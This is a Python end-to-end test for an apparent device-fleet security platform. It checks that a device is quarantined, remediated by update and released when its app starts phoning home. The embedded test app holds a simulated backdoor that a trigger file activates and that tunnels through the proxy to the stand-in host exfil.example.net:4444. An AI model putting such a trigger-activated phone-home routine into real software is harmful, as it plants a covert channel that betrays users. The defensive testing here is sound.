"""The monitor end to end: a device turns rogue, is set aside within seconds, remediated by an update, and
released by policy — with real agents, the real server, hub, authority, director and monitor.

Two agents run release 2.1.0 of an application with a flaw: when a file appears in its storage (the
attacker's doing) it starts phoning home to a host its manifest does not declare. The operator has
prepared for incidents: a Quarantine group whose deployment is the fixed 2.1.1, and a playbook that, on an
``undeclared_destination`` alert, moves the device there and quarantines it, releasing it once it attests
again on the group's software. The story: the agent's proxy refuses the connection and reports it; the
monitor raises an alert with the evidence; the playbook quarantines the device (the hub narrows its session
to the twin) and moves it; the device installs 2.1.1, attests on it, and is released back to its group;
the other device is never touched. Every step is in the tenant's audit log.
"""

from __future__ import annotations

import asyncio
import dataclasses
import datetime as dt
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from fleetward.agent.config import AgentSettings
from fleetward.agent.manifest import AllowedConnection, Capabilities, Manifest
from fleetward.agent.package import build_package
from fleetward.api import schemas
from fleetward.api import schemas_monitor as monitor_schemas
from fleetward.clock import FakeClock
from fleetward.config import Limits
from fleetward.monitor.playbooks import Condition, MoveToGroup, PlaybookSpec, Quarantine
from tests.agent_apps import COMPONENT, app_interpreter, reachable_directory
from tests.conftest import HubSetup
from tests.test_updates_end_to_end import fleet_of
from tests.waiting import eventually

#: phones home through the proxy once the attacker's file is in its storage
FLAWED = """
import os, pathlib, socket, time, urllib.parse
print("test-app {version} started", flush=True)
trigger = pathlib.Path(os.environ["FLEETWARD_STORAGE_DIR"]) / "pwned"
proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
while True:
    if {flawed} and trigger.exists() and proxy.hostname:
        try:
            with socket.create_connection((proxy.hostname, proxy.port), timeout=2) as tunnel:
                target = b"exfil.example.net:4444"
                tunnel.sendall(b"CONNECT " + target + b" HTTP/1.1\\r\\nHost: " + target + b"\\r\\n\\r\\n")
                tunnel.recv(1024)
        except OSError:
            pass
    time.sleep(0.3)
"""


class RunningClock(FakeClock):
    """Real time: the release policy compares when things happened, so time must move by itself."""

    def now(self) -> dt.datetime:
        return dt.datetime.now(dt.UTC)


@pytest.fixture
def clock() -> FakeClock:
    return RunningClock()


@pytest.fixture
def database_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'fleetward.db'}"


@pytest.fixture
def limits() -> Limits:
    return Limits(rollout_tick_milliseconds=100, monitor_release_seconds=1)


@pytest.fixture
def base() -> Iterator[Path]:
    with reachable_directory() as path:
        yield path


def release(version: str, *, flawed: bool) -> bytes:
    manifest = Manifest(
        name="test-app",
        component_id=COMPONENT,
        entry_point="bin/app",
        capabilities=Capabilities(
            allowed_connections=(AllowedConnection.parse("telemetry.example.com:443"),)
        ),
    )
    body = FLAWED.format(version=version, flawed=flawed)
    script = f"#!{app_interpreter(own_user=True)}\n{body.strip()}\n"
    return build_package(manifest, {"bin/app": script.encode()})


def quick(settings: AgentSettings) -> AgentSettings:
    """Look for updates and for a release often (the defaults are minutes)."""
    return dataclasses.replace(
        settings,
        hub=dataclasses.replace(settings.hub, quarantine_retry_seconds=0.5),
        updates=dataclasses.replace(settings.updates, poll_seconds=1.0) if settings.updates else None,
    )


def device_status(hub: HubSetup, device_id: str) -> schemas.DevicePublic:
    return hub.tenant.client.get(f"/v1/tenants/{hub.tenant.id}/devices/{device_id}", schemas.DevicePublic)


async def test_a_device_turning_rogue_is_quarantined_within_seconds_remediated_by_an_update_and_released(
    hub: HubSetup, base: Path, clock: FakeClock
) -> None:
    client, tenant_id = hub.tenant.client, hub.tenant.id
    async with fleet_of(
        hub, base, clock, 2, first_release=release("2.1.0", flawed=True), adjust=quick
    ) as fleet:
        operator = fleet.operator
        rogue, bystander = fleet.agents
        field_test = fleet.group_id
        # prepared before any incident: where a compromised device goes, and what it gets there
        quarantine_group = client.post(
            f"/v1/tenants/{tenant_id}/device-groups",
            schemas.DeviceGroupCreate(product=hub.tenant.product.id, name="Quarantine"),
            schemas.DeviceGroupPublic,
        )
        fixed = await asyncio.to_thread(operator.publish, release("2.1.1", flawed=False), "2.1.1")
        prepared = await asyncio.to_thread(operator.deploy, quarantine_group.id, [fixed])
        assert (await operator.follow(prepared.id)).state == "current"
        playbook = client.post(
            f"/v1/tenants/{tenant_id}/playbooks",
            PlaybookSpec(
                name="phone-home",
                condition=Condition(codes=("undeclared_destination",), min_severity="high"),
                actions=(MoveToGroup(group_id=quarantine_group.id), Quarantine()),
            ),
            monitor_schemas.PlaybookPublic,
        )

        # the attacker flips the flaw on one device
        (rogue.settings.state_dir / "storage" / COMPONENT / "pwned").write_text("1")
        started = time.monotonic()

        def quarantined() -> bool:
            return device_status(hub, rogue.device_id).status == "quarantined"

        await eventually(
            lambda: asyncio.to_thread(quarantined), what="the rogue device's quarantine", timeout=30
        )
        set_aside_in = time.monotonic() - started
        assert set_aside_in < 15, f"quarantined {set_aside_in:.1f} s after the first violation"

        # why: an alert with its evidence, the run that acted on it, and the device's health
        [alert] = client.get_list(
            f"/v1/tenants/{tenant_id}/alerts",
            monitor_schemas.AlertPublic,
            {"device_id": rogue.device_id, "min_severity": "medium"},
        )
        assert (alert.code, alert.severity) == ("undeclared_destination", "high")
        assert "exfil.example.net:4444" in alert.evidence[0]["detail"]
        [run] = client.get_list(f"/v1/tenants/{tenant_id}/playbook-runs", monitor_schemas.PlaybookRunPublic)
        assert (run.playbook_id, run.device_id, run.state) == (playbook.id, rogue.device_id, "done")
        assert [action.kind for action in run.actions] == ["move_to_group", "quarantine"]
        health = client.get(
            f"/v1/tenants/{tenant_id}/devices/{rogue.device_id}/health",
            monitor_schemas.HealthPublic,
            {"refresh": "true"},
        )
        assert (health.state, health.restricted) == ("quarantined", True)

        # the hub narrowed the rogue device's session: its agent sees itself quarantined
        async def narrowed() -> bool:
            return (await rogue.status()).link.quarantined

        await eventually(narrowed, what="the hub to narrow the rogue session", timeout=30)

        # remediation: the Quarantine group's release reaches it; it attests again on it and is released
        await eventually(
            lambda: fleet.running("2.1.1", rogue), what="the rogue device to run the fix", timeout=60
        )

        def released() -> bool:
            device = device_status(hub, rogue.device_id)
            return device.status == "active" and device.group_id == field_test

        await eventually(lambda: asyncio.to_thread(released), what="the release by policy", timeout=60)

        async def widened() -> bool:
            return not (await rogue.status()).link.quarantined

        await eventually(widened, what="the hub to give the device its topics back", timeout=30)
        # what it reported while set aside drains from its outbox now: the incident dealt with, not a new one
        await asyncio.sleep(3)
        assert device_status(hub, rogue.device_id).status == "active"
        [undone] = client.get_list(
            f"/v1/tenants/{tenant_id}/playbook-runs", monitor_schemas.PlaybookRunPublic
        )
        assert (undone.state, undone.undone_by) == ("undone", "monitor")
        assert (
            client.get_list(
                f"/v1/tenants/{tenant_id}/alerts",
                monitor_schemas.AlertPublic,
                {"device_id": rogue.device_id, "min_severity": "medium"},
            )
            == []  # closed with its release
        )

        # the bystander was never touched
        assert device_status(hub, bystander.device_id).status == "active"
        assert not (await bystander.status()).link.quarantined
        assert await fleet.running("2.1.0", bystander)

        # and every step is in the audit log, by whom
        codes = [
            (event.kind, event.code, event.actor) for event in hub.tenant.events(device_id=rogue.device_id)
        ]
        assert ("alert", "alert_opened", "agent:capability_denied") in codes
        assert ("quarantine", "quarantined", "playbook:phone-home") in codes
        assert ("playbook", "run_done", "playbook:phone-home") in codes
        assert ("quarantine", "released", "monitor") in codes
        assert ("playbook", "run_undone", "monitor") in codes
